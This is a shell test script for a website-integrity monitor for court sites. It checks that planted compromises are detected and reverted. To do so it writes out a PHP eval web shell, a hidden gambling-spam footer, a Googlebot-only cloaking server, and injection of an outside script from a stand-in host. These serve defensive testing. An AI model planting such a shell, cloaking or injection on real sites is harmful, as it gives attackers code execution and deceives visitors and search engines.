#!/bin/sh
# What really happens to court sites, on a copy of the sample site behind a running server: a page
# replaced, a hidden gambling footer, a dropped program, gambling for Googlebot alone, a stranger's
# script in what is served while no file changes. Each must
# become the right finding in time and be undone by one act; the page about a gambling trial must
# stay quiet; `watch run` must tell of every section where it is and how fresh.
#
#   deploy/bench/shows-watch.sh [PORT, and the next one; 18260 when not given] [SECTIONS]
#
# SECTIONS is the register of what a court must publish, a `psv` block within any text; without it
# the built-in one. Needs a built tree, curl and python3. Prints one line a check, the seconds where
# time counts (60 at most for a change of a file), and ends with 1 when one failed.
set -u
port=${1:-18260}
served=$((port + 1))
here=$(cd "$(dirname "$0")" && pwd)
. "$here/checks.sh"
register=${2:-$here/../../plugin/src/main/resources/id/jagasitus/fresh/sections.psv}
sample=$here/../../webapp/src/main/webapp
trial=berita/2026-11-18-putusan-perkara-perjudian-daring.html
footer='<div style="display:none"><a href="https://promo.example/">slot gacor hari ini</a></div>'
most=60
needs curl python3
site=$work/situs
home=$work/home
admin=http://127.0.0.1:$port/admin
server=
other=
leave() {
  for id in $server $other; do kill "$id" 2> /dev/null; done
  wait
}

jaga() { "$here/../jagasitus" --home "$home" "$@"; }
now() { date +%s.%N; }
page() { curl -s -b "$work/cookies" -c "$work/cookies" "$admin/$1"; }
token() { sed -n 's/.*name="kunci" value="\([^"]*\)".*/\1/p' | head -1; }
send() { # page with the form, action, field=value...; one act of a person
  key=$(page "$1" | tr '>' '\n' | token)
  action=$2
  shift 2
  for field in "$@"; do set -- "$@" --data-urlencode "$field"; shift; done
  curl -s -o "$work/answer" -w '%{http_code}' -b "$work/cookies" -c "$work/cookies" \
    --data-urlencode "kunci=$key" "$@" "$admin/$action" | grep -q '^30'
}
until_seen() { # most seconds, command...; prints how long it took
  limit=$1
  begun=$(now)
  shift
  while ! "$@" > /dev/null 2>&1; do
      if python3 -c "import sys; sys.exit($(now) - $begun <= $limit)"; then return 1; fi
    sleep 0.5
  done
  python3 -c "print('%.1f s' % ($(now) - $begun))"
}
# A finding of an intent at a place that is not closed.
finding() { # intent place
  jaga findings list --json | python3 -c '
import json, sys
rows = [json.loads(line) for line in sys.stdin]
found = [r for r in rows if r.get("intent") == sys.argv[1] and sys.argv[2] in r.get("place", "")]
sys.exit(0 if found else 1)' "$1" "$2"
}
pending() { page perubahan | grep -q -F "berkas=$(echo "$1" | sed 's#/#%2F#g')"; }
timely() { # sentence limit command...
  what=$1
  shift
  if took=$(until_seen "$@"); then
    echo "ok      $what: $took"
  else
    echo "FAILED  $what: not within $1 s"
    failed=1
  fi
}
undo() { send "perubahan/rinci?berkas=$(echo "$1" | sed 's#/#%2F#g')" perubahan/pulihkan "berkas=$1"; }
same() { cmp "$sample/$1" "$site/$1"; }
nothing_pending() { page perubahan | grep -q -F 'Tidak ada perbedaan dengan acuan.'; }

echo "-- a fresh home, a copy of the sample site"
mkdir -p "$site"
(cd "$sample" && tar c --exclude WEB-INF .) | tar x -C "$site"
# not through jaga: a function would run in a shell of its own, which is not the server
"$here/../jagasitus" --home "$home" serve --site "$site" --port "$port" > "$work/server.log" 2>&1 &
server=$!
timely "the server is up" 90 curl -s -f -o /dev/null "$admin/"
check "the first account" send siapkan siapkan "kode=$(cat "$home/setup-code.txt")" nama=budi \
  'sandi=kuda hitam lari pagi' 'ulangi=kuda hitam lari pagi'

echo "-- the first baseline is scanned before it is approved"
sed "s#</body>#$footer</body>#" "$sample/profil/sejarah.html" > "$site/profil/sejarah.html"
jaga baseline approve > "$work/said" 2>&1
check "an infected site is refused in words" grep -q 'critical signs of injected content' "$work/said"
cp "$sample/profil/sejarah.html" "$site/profil/sejarah.html"
check "the sample site is approved" jaga baseline approve
check "a snapshot repository" jaga snapshot init
check "a snapshot of what was approved" jaga snapshot create

echo "-- index.html is replaced"
echo '<title>x</title><h1>Hacked by X</h1>' > "$site/index.html"
timely "it is a finding" $most finding injected-content /index.html
check "and waits on Perubahan" pending index.html
rm -rf "$home"/watch/site-*/approved/*
check "one act puts it back, from the snapshot alone" undo index.html
check "byte for byte" same index.html

echo "-- a hidden gambling footer in one page"
page=profil/visi-misi.html
sed "s#</body>#$footer</body>#" "$sample/$page" > "$site/$page"
timely "it is a finding of injected content" $most finding injected-content /$page
page 'perubahan/rinci?berkas=profil%2Fvisi-misi.html' > "$work/page"
check "its difference names the stranger" grep -q promo.example "$work/page"
check "one act puts it back" undo $page
check "byte for byte" same $page

echo "-- a program is dropped"
# shellcheck disable=SC2016 # it is PHP's own $
echo '<?php @eval($_POST["x"]);' > "$site/gambar/shell.php"
timely "it is a finding of a planted program" $most finding planted-program /gambar/shell.php
check "one act takes it away" undo gambar/shell.php
check "it is gone" test ! -e "$site/gambar/shell.php"
check "and kept as evidence" sh -c "ls '$home/evidence/site' | grep -q shell.php"

echo "-- gambling for Googlebot alone, from a file in the site"
cat > "$work/cloak.py" <<'P'
import http.server, os, sys
class Court(http.server.SimpleHTTPRequestHandler):
    def do_GET(self):
        kit = os.path.exists(os.path.join(self.directory, "gambar", "konf.php"))
        if kit and "Googlebot" in self.headers.get("User-Agent", ""):
            body = (b"<title>Slot Gacor</title><h1>Slot gacor maxwin</h1>"
                    b"<a href='https://promo.example/'>Daftar</a>")
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        elif self.path == "/" and os.path.exists(sys.argv[3]):
            with open(os.path.join(self.directory, "index.html"), "rb") as page:
                body = page.read().replace(b"</body>",
                    b"<script src='https://cdn-hitung.example/h.js?v=3'></script></body>")
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        else:
            super().do_GET()
    def log_message(self, *ignored):
        pass
http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[2])),
    lambda *a: Court(*a, directory=sys.argv[1])).serve_forever()
P
python3 "$work/cloak.py" "$site" "$served" "$work/sisip" &
other=$!
check "the public address is set" send pantauan/pengaturan pantauan/pengaturan \
  "situs=http://127.0.0.1:$served/" gagal=3 lambat=4000 \
  registri=https://rdap.pandi.id/rdap/domain/
compared() { page pantauan | grep -q -F 'Tidak ditemukan perbedaan antara'; }
timely "honest pages are compared and nothing is found" 120 compared
# shellcheck disable=SC2016 # it is PHP's own $
echo '<?php if (strpos($_SERVER["HTTP_USER_AGENT"], "Googlebot") !== false) { echo 1; exit; }' \
  > "$site/gambar/konf.php"
timely "the file that does it is a finding" $most finding planted-program /gambar/konf.php
check "Periksa sekarang" send pantauan pantauan/periksa
timely "so is what Googlebot gets" 120 finding cloaking "http://127.0.0.1:$served/"
page pantauan > "$work/page"
check "Pantauan says who sees it" grep -q 'Hanya terlihat oleh' "$work/page"
check "one act takes the file away" undo gambar/konf.php
check "Periksa sekarang" send pantauan pantauan/periksa
timely "nobody is told apart any more" 120 compared

echo "-- a stranger's script in what is served, while no file changes"
script=cdn-hitung.example/h.js
shown() { page perubahan | grep -q -F "$script"; }
unshown() { ! shown; }
check "nothing served waits for anybody" unshown
touch "$work/sisip"
check "Periksa sekarang" send pantauan pantauan/periksa
timely "it is a finding" 120 finding served-change "http://127.0.0.1:$served/"
check "no file differs from what was approved" nothing_pending
check "it waits on Perubahan" shown
one=$(page perubahan | sed -n 's/.*\(perubahan\/sajian\/rinci?id=[0-9a-f]*\)".*h\.js.*/\1/p' | head -1)
page "$one" > "$work/page"
check "its page says where it stands and how it is written" grep -q -F "https://$script?v=3" "$work/page"
seen=$(sed -n 's/.*name="lihat" value="\([^"]*\)".*/\1/p' "$work/page" | head -1)
send "$one" perubahan/sajian/setujui "sajian=${one#*=}" lihat=lain
check "an approval of something else is refused" shown
send "$one" perubahan/sajian/setujui "sajian=${one#*=}" "lihat=$seen"
check "one act approves it" unshown
jaga baseline show --outgoing --json > "$work/outgoing"
check "baseline show names it as approved" grep -q "\"to\":\"$script\",\"state\":\"approved\"" "$work/outgoing"
check "and the journal who did" sh -c "'$here/../jagasitus' --home '$home' journal show --json | grep -q outgoing.approved"
rm "$work/sisip"

echo "-- what stays quiet"
check "nothing differs from what was approved" nothing_pending
jaga findings list --json > "$work/findings"
check "no finding names the page about a gambling trial" sh -c "! grep -q '$trial' '$work/findings'"
jaga watch scan "$site/$trial" --host pn-contoh.go.id --json > "$work/scan"
check "nor does the scanner" grep -q '"verdict":"none"' "$work/scan"
check "its page is there" test -s "$site/$trial"

echo "-- every section: where it is, and how fresh"
jaga watch run --json > "$work/run"
check "watch run answers for the whole register" python3 - "$register" "$work/run" <<'P'
import json, re, sys
want = {}
for line in open(sys.argv[1], encoding="utf-8"):
    cell = line.rstrip("\n").split("|")
    if len(cell) in (9, 10) and cell[4] in ("yes", "recommended"):
        want[cell[0]] = cell[4] == "yes"
rows = {}
for line in open(sys.argv[2], encoding="utf-8"):
    row = json.loads(line)
    if "section" in row:
        rows[row["section"]] = row
missing = [i for i in want if i not in rows]
unclear = [i for i, r in rows.items() if r["state"] != "missing" and not r["address"]]
undated = [i for i, r in rows.items() if r["state"] == "fresh" and r["kind"] != "link"
           and r["max_age_days"] and not r["date"]]
lost = [i for i, needed in want.items() if needed and not rows.get(i, {}).get("found")]
print("no row:", missing, "no address:", unclear, "no date:", undated, "not found:", lost)
sys.exit(1 if len(want) < 50 or missing or unclear or undated or lost else 0)
P
verdict
